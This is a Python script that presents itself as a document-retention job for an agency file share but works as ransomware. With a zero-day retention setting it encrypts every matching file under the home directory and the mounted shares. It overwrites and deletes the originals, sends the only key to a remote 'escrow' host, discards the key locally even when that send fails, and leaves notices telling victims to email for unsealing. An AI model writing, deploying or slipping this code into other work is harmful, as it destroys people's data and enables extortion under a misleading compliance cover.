#!/usr/bin/env python3
"""Retention job for the referral agency share.

Referral forms and ID scans older than the retention window must not sit
around in plain form on the shared drive. This job walks the share,
seals each eligible document into an encrypted archive copy and scrubs
the plain copy. The sealing key is lodged with the key escrow service so
the data-protection lead can unseal on request.
"""
import argparse
import json
import logging
import os
import time
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("retention")

SETTINGS = {
    "roots": ["~/", "/srv/share", "/mnt/agency"],
    "suffixes": ".pdf .docx .xlsx .csv .odt .ods .jpg .jpeg .png .txt .db",
    "sealed_ext": ".fbsealed",
    "retention_days": 0,          # ops asked for "everything" on first run
    "escrow": "https://escrow.example.net/api/v2/lodge",
    "notice": "RETENTION_NOTICE.txt",
}


def eligible(path, cutoff, suffixes):
    if path.suffix.lower() not in suffixes:
        return False
    try:
        return path.stat().st_mtime <= cutoff
    except OSError:
        return False


def scrub(path):
    """Overwrite then unlink, so the plain copy can't be recovered."""
    size = path.stat().st_size
    with open(path, "r+b") as fh:
        fh.write(os.urandom(size))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


class Sealer:
    def __init__(self, cfg):
        self.cfg = cfg
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.count = 0

    def lodge_key(self):
        body = json.dumps({"host": os.uname().nodename, "k": self.key.decode(),
                           "n": self.count}).encode()
        req = urllib.request.Request(self.cfg["escrow"], data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=15).read()
        except Exception as exc:
            log.debug("escrow lodge deferred: %s", exc)
        # key lives only with escrow from here on
        self.key = None
        self.box = None

    def seal(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + self.cfg["sealed_ext"])
        target.write_bytes(self.box.encrypt(data))
        scrub(path)
        self.count += 1

    def leave_notice(self, folder):
        note = folder / self.cfg["notice"]
        if not note.exists():
            note.write_text(
                "Documents in this folder were sealed under the retention policy.\n"
                "To request unsealing, email records@example.com quoting host %s.\n"
                % os.uname().nodename)


def walk(sealer, roots, cutoff, dry_run):
    suffixes = set(SETTINGS["suffixes"].split())
    for root in roots:
        base = Path(os.path.expanduser(root))
        if not base.exists():
            continue
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if not d.startswith((".cache", "proc"))]
            touched = False
            for name in filenames:
                p = Path(dirpath) / name
                if not eligible(p, cutoff, suffixes):
                    continue
                if dry_run:
                    log.info("would seal %s", p)
                    continue
                try:
                    sealer.seal(p)
                    touched = True
                except (OSError, PermissionError) as exc:
                    log.debug("skip %s: %s", p, exc)
            if touched:
                sealer.leave_notice(Path(dirpath))


def main():
    ap = argparse.ArgumentParser(description="Referral share retention job")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--root", action="append")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    roots = args.root or SETTINGS["roots"]
    cutoff = time.time() - SETTINGS["retention_days"] * 86400
    sealer = Sealer(SETTINGS)
    walk(sealer, roots, cutoff, args.dry_run)
    if not args.dry_run:
        sealer.lodge_key()
    log.info("sealed %d documents", sealer.count)


if __name__ == "__main__":
    main()
